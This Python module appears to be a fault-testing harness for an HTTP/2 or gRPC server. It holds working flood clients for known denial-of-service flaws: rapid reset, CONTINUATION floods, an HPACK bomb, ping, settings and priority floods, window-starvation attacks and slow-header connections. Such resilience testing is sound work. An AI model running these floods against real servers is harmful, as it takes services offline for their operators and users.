"""
Clients that mean harm, each as a process: `python -m tests.faults.floods NAME ADDRESS PATH SECONDS`.

At the end it prints, as JSON, how many connections it made, and how many bursts it sent, of what each flood says.
"""

import contextlib
import itertools
import json
import os
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.support.h2 import LARGEST, PREFACE, Wire, dial, request_headers

INITIAL_WINDOW_SIZE = SettingsFrame.INITIAL_WINDOW_SIZE
CANCEL = 8
MESSAGE = b"\x0a\x05hello"  # of either service
LONG_MESSAGE = b"\x0a\x90\x4e" + b"x" * 10_000
PAUSE = 0.01  # seconds between two bursts

Bursts = Iterator[list[Frame | bytes]]


@dataclass(frozen=True)
class Flood:
    """What is sent in each burst over a connection, and over how many connections at once."""

    bursts: Callable[[Wire, str], Bursts]
    connections: int = 1
    reads: bool = True
    greeting: bool = True
    settings: dict[int, int] = field(default_factory=dict)


def rapid_reset(wire: Wire, path: str) -> Bursts:
    """Begin 10 calls, and reset each at once: CVE-2023-44487."""
    while True:
        burst: list[Frame | bytes] = []
        for _ in range(10):
            frames = wire.call_frames(path, message=MESSAGE)
            burst += [*frames, RstStreamFrame(frames[0].stream_id, CANCEL)]
        yield burst


def rapid_reset_of_unknown_methods(wire: Wire, _path: str) -> Bursts:
    """Do so with calls of methods that there are not."""
    for number in itertools.count():
        yield from itertools.islice(rapid_reset(wire, f"/no.Such/Method{number}"), 1)


def continuation(wire: Wire, path: str) -> Bursts:
    """Begin a call whose headers never end, with 20 frames of them: CVE-2024-27316."""
    [headers] = wire.header_frames(1, request_headers(path))
    headers.flags.discard("END_HEADERS")
    yield [headers]
    part = wire.encoder.encode([(b"x-more", b"x" * 900)], huffman=False)
    while True:
        yield [ContinuationFrame(1, part)] * 20


def empty_continuation(wire: Wire, path: str) -> Bursts:
    """Do so with 50 frames that are empty."""
    [headers] = wire.header_frames(1, request_headers(path))
    headers.flags.discard("END_HEADERS")
    yield [headers]
    while True:
        yield [ContinuationFrame(1, b"")] * 50


def hpack_bomb(wire: Wire, path: str) -> Bursts:
    """Begin a call whose 16 kB of headers stand for 60 MB."""
    wire.call(path, ("x-bomb", "x" * 3_900), message=MESSAGE)
    again = wire.encoder.encode([(b"x-bomb", b"x" * 3_900)])
    while True:
        frames = wire.call_frames(path, message=MESSAGE)
        headers = frames[0]
        assert isinstance(headers, HeadersFrame)
        headers.data += again * ((LARGEST - len(headers.data)) // len(again))
        yield [*frames]


def made_to_reset(wire: Wire, path: str) -> Bursts:
    """Begin 10 calls, and break each so that the server resets it: CVE-2025-8671."""
    while True:
        burst: list[Frame | bytes] = []
        for _ in range(10):
            frames = wire.call_frames(path, message=MESSAGE)
            burst += [*frames, WindowUpdateFrame(frames[0].stream_id, window_increment=2**31 - 1)]
        yield burst


def pings(_wire: Wire, _path: str) -> Bursts:
    """Ask for 50 answers to pings: CVE-2019-9512."""
    while True:
        yield [PingFrame(0, b"12345678")] * 50


def settings(_wire: Wire, _path: str) -> Bursts:
    """Send 50 settings, each of which wants to be acknowledged: CVE-2019-9515."""
    while True:
        yield [SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})] * 50


def priorities(_wire: Wire, _path: str) -> Bursts:
    """Move 50 streams that there are not to another place: CVE-2019-9513."""
    streams = itertools.cycle(range(1, 20_001, 2))
    while True:
        yield [PriorityFrame(next(streams), depends_on=0, stream_weight=7) for _ in range(50)]


def empty_data(wire: Wire, path: str) -> Bursts:
    """Send 50 frames of data with nothing in them, on a call that does not end: CVE-2019-9518."""
    stream = wire.call(path, message=None, end=False)
    while True:
        yield [DataFrame(stream, b"")] * 50


def zero_window(wire: Wire, path: str) -> Bursts:
    """Make a call whose answer may not be sent, 90 on a connection: CVE-2019-9517."""
    for _ in range(90):
        yield [*wire.call_frames(path, message=LONG_MESSAGE)]


def tiny_windows(wire: Wire, path: str) -> Bursts:
    """Let an answer of 10 kB be sent byte by byte, 100 in a burst: CVE-2019-9511."""
    while True:
        frames = wire.call_frames(path, message=LONG_MESSAGE)
        yield [*frames]
        update = WindowUpdateFrame(frames[0].stream_id, window_increment=1)
        for _ in range(50):
            yield [update] * 100
        yield [RstStreamFrame(frames[0].stream_id, CANCEL), WindowUpdateFrame(0, window_increment=10_000)]


def slow_headers(wire: Wire, path: str) -> Bursts:
    """Send the headers of a call byte by byte."""
    [headers] = wire.header_frames(1, request_headers(path))
    for byte in headers.serialize():
        yield [bytes([byte])]


def slow_preface(_wire: Wire, _path: str) -> Bursts:
    """Send what a connection begins with byte by byte."""
    for byte in PREFACE:
        yield [bytes([byte])]


FLOODS = {
    "rapid-reset": Flood(rapid_reset),
    "rapid-reset-unknown": Flood(rapid_reset_of_unknown_methods),
    "made-to-reset": Flood(made_to_reset),
    "continuation": Flood(continuation),
    "empty-continuation": Flood(empty_continuation),
    "hpack-bomb": Flood(hpack_bomb),
    "pings": Flood(pings),
    "pings-unread": Flood(pings, reads=False),
    "settings": Flood(settings),
    "settings-unread": Flood(settings, reads=False),
    "priorities": Flood(priorities),
    "empty-data": Flood(empty_data),
    "zero-window": Flood(zero_window, settings={INITIAL_WINDOW_SIZE: 0}),
    "tiny-windows": Flood(tiny_windows, settings={INITIAL_WINDOW_SIZE: 0}),
    "slow-headers": Flood(slow_headers, connections=200),
    "slow-preface": Flood(slow_preface, connections=200, greeting=False),
}


class Attacker:
    """One of a flood's connections, which is made anew when it ends."""

    def __init__(self, flood: Flood, address: str, path: str) -> None:
        self._flood, self._address, self._path = flood, address, path
        self._ends = contextlib.ExitStack()
        self._bursts: Bursts | None = None
        self.connections = 0
        self.bursts = 0

    def act(self) -> None:
        """Connect, if need be, and send a burst."""
        try:
            if self._bursts is None:
                self._wire = self._ends.enter_context(
                    dial(self._address, self._flood.settings, greeting=self._flood.greeting)
                )
                self._wire.socket.settimeout(1)
                self.connections += 1
                self._bursts = self._flood.bursts(self._wire, self._path)
            self._wire.send(*next(self._bursts))
            self.bursts += 1
            if self._flood.reads:
                self._wire.receive_what_came()
        except (StopIteration, OSError):
            self._ends.close()
            self._bursts = None


def run(flood: Flood, address: str, path: str, seconds: float) -> dict[str, int]:
    """Flood for so many seconds; return what was sent."""
    attackers = [Attacker(flood, address, path) for _ in range(flood.connections)]
    start = time.monotonic()
    for number, attacker in enumerate(itertools.cycle(attackers)):
        due = start + number * PAUSE
        if due > start + seconds or time.monotonic() > start + seconds:
            break
        time.sleep(max(0.0, due - time.monotonic()))
        attacker.act()
    return {name: sum(getattr(attacker, name) for attacker in attackers) for name in ("connections", "bursts")}


if __name__ == "__main__":
    os.nice(5)
    name, address, path, seconds = sys.argv[1:]
    print(json.dumps(run(FLOODS[name], address, path, float(seconds))))  # noqa: T201 - what the test reads
